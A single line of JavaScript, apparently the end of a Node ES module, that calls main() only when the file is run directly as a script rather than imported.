if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) main();
